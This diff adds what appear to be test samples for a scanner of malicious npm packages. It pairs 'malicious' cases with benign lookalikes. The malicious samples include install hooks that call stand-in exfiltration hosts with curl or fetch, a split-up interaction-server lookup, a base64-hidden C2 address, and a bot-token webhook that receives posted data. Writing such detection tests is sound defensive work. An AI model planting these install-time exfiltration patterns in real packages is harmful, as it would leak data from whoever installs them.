@@ -1,0 +1,87 @@
+import type { Samples } from '../contract.ts';
+import { hide, manifest, quiet } from '../samples-kit.ts';
+
+function imported(code: string): Record<string, string> {
+  return { 'package.json': manifest({ main: 'index.js' }), 'index.js': code };
+}
+
+function installed(code: string): Record<string, string> {
+  return { 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code };
+}
+
+function at(rule: string, severity: 'high' | 'medium', line: number, file = 'setup.js') {
+  return { rule, file, line, severity };
+}
+
+const MAILBOX = `https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sendMessage`;
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'a request catcher in a hook script',
+      files: installed(`fetch('https://exfil.weir.test/abc');\n`),
+      expected: [at('request-catcher', 'high', 1)],
+    },
+    {
+      name: 'a request catcher in the hook itself',
+      files: { 'package.json': manifest({ scripts: { preinstall: 'curl https://exfil.weir.test/abc' } }) },
+      expected: [at('request-catcher', 'high', 5, 'package.json')],
+    },
+    {
+      name: 'an interaction server in pieces',
+      files: installed(
+        `const host = ['x1', 'interaction', 'weir', 'test'].join('.');\nrequire('dns').lookup(host, () => {});\n`,
+      ),
+      expected: [at('interaction', 'high', 1)],
+    },
+    {
+      name: 'an address under base64',
+      files: imported(`const u = atob('${hide('https://tunnel.weir.test/c2/path')}');\nfetch(u);\n`),
+      expected: [at('tunnel', 'high', 1, 'index.js')],
+    },
+    {
+      name: "somebody's mailbox",
+      files: imported(
+        `const hook = '${MAILBOX}';\nexports.send = (t) => fetch(hook, { method: 'POST', body: t });\n`,
+      ),
+      expected: [at('mailbox', 'medium', 1, 'index.js')],
+    },
+    {
+      name: 'a mailbox at install',
+      files: installed(`require('https').get('${MAILBOX}');\n`),
+      expected: [at('mailbox', 'high', 1)],
+    },
+  ],
+  benign: [
+    quiet(
+      "a messenger's SDK",
+      imported(
+        `const BASE = 'https://messenger.weir.test';\nmodule.exports = (token, method) => fetch(BASE + '/bot' + token + '/' + method);\n`,
+      ),
+    ),
+    quiet(
+      'a list of hosts',
+      imported(
+        `module.exports = ['exfil.weir.test', 'a.exfil.weir.test', 'b.exfil.weir.test', 'c.exfil.weir.test', 'paste.weir.test', 'tunnel.weir.test', 'interaction.weir.test', 'd.interaction.weir.test', 'address.weir.test'];\nexports.check = (u) => fetch(u);\n`,
+      ),
+    ),
+    quiet(
+      'a host in a comment',
+      imported(
+        `// tested with https://exfil.weir.test/abc\nmodule.exports = () => fetch('https://api.weir.test');\n`,
+      ),
+    ),
+    quiet('a host in a file that nothing loads', {
+      ...imported('module.exports = 1;\n'),
+      'examples/demo.js': `fetch('https://exfil.weir.test/abc');\n`,
+    }),
+    quiet(
+      'a host without a way to reach it',
+      imported(`module.exports = { docs: 'https://exfil.weir.test/abc' };\n`),
+    ),
+    quiet(
+      'the public address',
+      imported(`module.exports = () => fetch('https://address.weir.test/?format=json');\n`),
+    ),
+  ],
+};
